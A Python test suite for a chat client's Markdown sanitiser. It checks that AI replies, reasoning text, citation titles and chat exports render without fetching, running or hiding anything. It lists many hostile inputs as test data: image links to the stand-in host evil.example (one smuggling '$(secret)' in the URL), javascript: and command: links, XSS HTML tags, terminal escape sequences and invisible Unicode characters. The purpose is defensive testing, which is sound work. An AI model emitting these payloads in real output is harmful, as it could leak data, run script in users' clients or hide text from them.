"""What a hostile reply tries, and that nothing of it works: rendered Markdown fetches nothing, runs nothing, hides nothing.

Each attack is rendered by a CommonMark renderer that lets HTML through and makes links of bare addresses: the worst one
a client could have. It is tried as an answer, as reasoning, as a source's title, as a chat's title and in an export.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from halley.core.events import Citation
from halley.engine.markdown import citations, inert
from halley.engine.markdown.citations import mark_citations
from halley.engine.markdown.inert import inert_markdown
from halley.features.chat.markdown import render_chat
from halley.features.chat.rendering import Places, rendered_reply
from halley.stores.chats.values import Chat, Reply, Turn

EVIL = "https://evil.example/p.png"
IMAGES = [
    f"![x]({EVIL})", f"![]({EVIL})", f"![x]( {EVIL} )", f"![x](<{EVIL}>)", f'![x]({EVIL} "t")', f"![x](\n{EVIL}\n)",
    f"![x][r]\n\n[r]: {EVIL}", f"![r]\n\n[r]: {EVIL}", f"![r][]\n\n[r]: {EVIL}", f"![x][r]\n\n[r]: <{EVIL}>",
    f"![x][r]\n\n[r]:\n{EVIL}", f"![x][r]\n\n> [r]: {EVIL}", f"![x][r]\n\n- [r]: {EVIL}", f"![a![b]({EVIL})]({EVIL})",
    f"[![x]({EVIL})]({EVIL})", f"!\\[x]({EVIL})![y]({EVIL})", f"![x\\]]({EVIL})", f"![x]({EVIL}\\))",
    f"![[x]]({EVIL})", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "![x](file:///etc/passwd)",
    "![x](//evil.example/p)", "![x](\\\\evil.example\\p)", f"![multi\nline]({EVIL})", f"![`x`]({EVIL})",
    f"![x]({EVIL}?q=$(secret))", f"| ![x]({EVIL}) |\n|-|\n| ![y]({EVIL}) |", f"# ![x]({EVIL})", f"> ![x]({EVIL})",
    f"- ![x]({EVIL})", f"1. ![x]({EVIL})", f"**![x]({EVIL})**", f"~~![x]({EVIL})~~", f"a `b` ![x]({EVIL}) `c`",
    f"`` ` `` ![x]({EVIL})", f"```\nx\n```\n![x]({EVIL})", f"```\nx\n````\n![x]({EVIL})", f"~~~\nx\n~~~ ![x]({EVIL})\n~~~\n![y]({EVIL})",
    f"`x\n\n![x]({EVIL})`", f"\\`![x]({EVIL})\\`", f"    ```\n![x]({EVIL})\n    ```", f"``` `\n![x]({EVIL})\n```", f"![x]&lpar;{EVIL}) ![y]({EVIL})",
    f"&excl;[x]({EVIL})![y]({EVIL})", "![x](&#104;ttps://evil.example/p.png)", f"!\u200b[x]({EVIL}) ![z]({EVIL})",
]  # fmt: skip
LINKS = [
    "[x](command:evil)", "[x](COMMAND:evil)", "[x]( command:evil )", "[x](<command:evil>)", "[x](com\tmand:evil)",
    "[x](command&colon;evil)", "[x](command&#58;evil)", "[x](command&#x3a;evil)", "[x](&#99;ommand:evil)", "[x](command%3Aevil)",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](javascript&colon;alert(1))", "[x](java\nscript:alert(1))",
    "[x](vbscript:x)", "[x](data:text/html,<script>1</script>)", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](file:///etc/passwd)",
    "[x](vscode://evil/run)", "[x](vscode-insiders:x)", "[x](cursor://x)", "[x](ssh://evil)", "[x](smb://evil/x)", "[x](ms-msdt:x)",
    "[x](//evil.example)", "[x](\\\\evil\\share)", "[x](/etc/passwd)", "[x](ftp://evil)", "[x](halley:/answers/x)", "[x](blob:x)",
    "<command:evil>", "<javascript:alert(1)>", "<COMMAND:evil?%22x%22>", "<vscode://x/y>", "<file:///etc/passwd>", "<data:text/html,x>",
    "[x][r]\n\n[r]: command:evil", "[r]\n\n[r]: javascript:x", "[x][r]\n\n[r]: <command:evil>", "[x][r]\n\n[r]:\ncommand:evil",
    "[x][r]\n\n> [r]: command:evil", "[x][r]\n\n- [r]: command:evil", "[x][r]\n\n   [r]: command:evil 'title'", "[x][r]\n\n[r]: comm&#97;nd:evil",
    "[x\\](y)](command:evil)", "[[x]](command:evil)", "[x](command:evil\\))", "[`x`](command:evil)", "[**x**](command:evil)", "[x\ny](command:evil)",
    "| [x](command:evil) |\n|-|\n| 1 |", "# [x](command:evil)", "x [a](https://ok.example) [b](command:evil)", "[x](\x01command:evil)",
    "[x](\u200bcommand:evil)", "[x](java\u200bscript:alert(1))", "[x](\\command:evil)", "[x](c\\ommand:evil)",
]  # fmt: skip
HTML = [
    f"<img src={EVIL}>", f"<IMG SRC='{EVIL}'>", f"<img\nsrc={EVIL}>", "<svg onload=alert(1)>", "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>", "<iframe src=//evil.example>", "<object data=//e.example>", "<embed src=//e.example>",
    "<a href='command:evil'>x</a>", "<a href=javascript:alert(1)>x</a>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
    "<style>@import '//evil.example'</style>", f"<video poster={EVIL}>", f"<audio src={EVIL}>", f"<link rel=stylesheet href={EVIL}>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example>", "<form action=//evil.example><button>x",
    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x>]]>", "<?php x ?><img src=x>", "<!DOCTYPE x><img src=x>",
    f"<div>\n<img src={EVIL}>\n</div>", f"text <b>bold<img src={EVIL}></b>", f"<table background={EVIL}>", "<input type=image src=//e.example>",
    "<math><mtext><img src=x onerror=alert(1)>", "<p style='background:url(//e.example)'>x", f"\\<img src={EVIL}>", f"`a`<img src={EVIL}>`b`",
    f"> <img src={EVIL}>", f"- <img src={EVIL}>", f"# <img src={EVIL}>", f"```\n```\n<img src={EVIL}>", f"``x` <img src={EVIL}> `y``z`", f"`<img src={EVIL}>",
]  # fmt: skip
HIDDEN = [
    "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\", "\x1b]52;c;ZXZpbA==\x07", "\x9b31m", "\x9d0;t\x9c",
    "\x1bP+q\x1b\\", "\x1bc", "\x1b[6n", "a\x08b", "a\rb\x07", "\x00", "\x7f", "\u202eevil\u202c", "\u2066x\u2069", "\u200bx", "\u200e\u200f", "\u2060",
    "\ufeffx", "\u00adx", "\U000e0041\U000e0042", "\U000e0001", "\u3164", "\u115f\u1160", "\uffa0", "\u2028x", "\u2029x", "\u061cx", "\ue000", "\x85x",
    "```\n\u202e\n```", "`\u202e`", "```\n\x1b[31m\n```",
]  # fmt: skip
ATTACKS = IMAGES + LINKS + HTML + HIDDEN


class Looker(HTMLParser):
    """What a browser would find."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        harmless = "p h1 h2 h3 h4 h5 h6 ul ol li em strong s code pre blockquote hr br a table thead tbody tr th td".split()
        if tag not in harmless:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name == "href":
                if not re.match(r"https?://|mailto:|#|[\w.%-]+(?:[/#?][^:]*)?$", value or ""):
                    self.found.append(f"href {value}")
            elif (tag, name) not in {("code", "class"), ("ol", "start"), ("th", "style"), ("td", "style")}:
                self.found.append(f"{name}={value}")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"instruction {data}")


def dangers(markdown: str) -> list[str]:
    """What could have an effect, in any renderer and in a terminal."""
    looker = Looker()
    renderer = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    renderer.validateLink = lambda _url: True  # the worst there is
    looker.feed(renderer.render(markdown))
    hidden = re.findall(
        "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u115f\u1160\u200b-\u200c\u200e\u200f\u2028-\u202e\u2060-\u206f\u3164\ufeff\uffa0\ue000"
        "\U000e0000-\U000e0fff]",
        markdown,
    )
    return looker.found + [f"U+{ord(c):04X}" for c in hidden]


def test_there_are_enough_attacks() -> None:
    assert len(set(ATTACKS)) >= 150
    assert sum(bool(dangers(attack)) for attack in ATTACKS) >= 140, "they are attacks"


def _chat(attack: str) -> Chat:
    citation = Citation("https://ok.example/", attack, 0, 3)
    reply = Reply(
        "r",
        "t",
        f"acme/{attack}",
        "complete",
        attack,
        attack,
        (citation, Citation(attack, attack)),
        notices=(attack,),
    )
    turn = Turn("t", "c", 0, attack, replies=(reply,))
    return Chat("c", None, attack, 0, 0, turns=(turn,))


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_nothing_is_fetched_run_or_hidden(attack: str) -> None:
    assert dangers(inert_markdown(attack)) == []
    assert dangers(inert_markdown(f"Some *words* first\n\n{attack}\n\nand `code` after.")) == []
    chat = _chat(attack)
    assert dangers(rendered_reply(chat.turns[0].replies[0], Places())) == []
    assert dangers(render_chat(chat, citations=True, reasoning=True)) == []


@settings(deadline=None, max_examples=300)
@given(
    st.lists(
        st.sampled_from(
            [*ATTACKS, "`", "```\n", "~~~", "\n", "\\", "<", "](", "[", "!", "text ", "> ", "- "]
        ),
        max_size=6,
    ).map("".join)
)
def test_nor_by_any_of_them_together(attack: str) -> None:
    assert dangers(inert_markdown(attack)) == []


@settings(deadline=None, max_examples=400)
@given(
    st.lists(
        st.sampled_from(
            [
                *"ab1 \n\t\r\\`~<>[]()!:|&*#-_\x1b\x00\x7fé\u200b",
                "```",
                "](",
                "]:",
                "[[1]](https://ok.example/)",
                "- ",
                "> ",
            ]
        ),
        max_size=12,
    ).map("".join)
)
def test_a_plain_text_is_shown_as_the_whole_way_would_show_it(text: str) -> None:
    def shown() -> tuple[str, object]:
        return inert_markdown(text), mark_citations(text, ())

    quick = shown()
    with pytest.MonkeyPatch.context() as patched:  # every text may hold something
        patched.setattr(inert, "_ACTS", re.compile(""))
        patched.setattr(citations, "_NAMES_ITSELF", "")
        assert quick == shown()


def test_a_number_and_a_comparison_keep_their_sign() -> None:
    """Most editors show Markdown as it is written."""
    table = "| simulator/sim-fast | <$0.0001 | 1 < 2, x <= 3, under <5 |"
    assert inert_markdown(table) == table
    assert inert_markdown("<5@a.example> <$1.b> <a>") == "&lt;5@a.example> &lt;$1.b> &lt;a>"


@pytest.mark.parametrize(
    "harmless",
    ["A [link](https://ok.example/a_b).", "See [this](src/a.py#L3).", "`<b>` and `![x](y)`", "1 < 2 and a<b", "👨‍👩‍👧 café ✅️", "```html\n<img src=x>\n```"],
)  # fmt: skip
def test_what_is_harmless_stays_as_it_is(harmless: str) -> None:
    assert inert_markdown(harmless) == harmless or "&lt;" in inert_markdown(harmless)
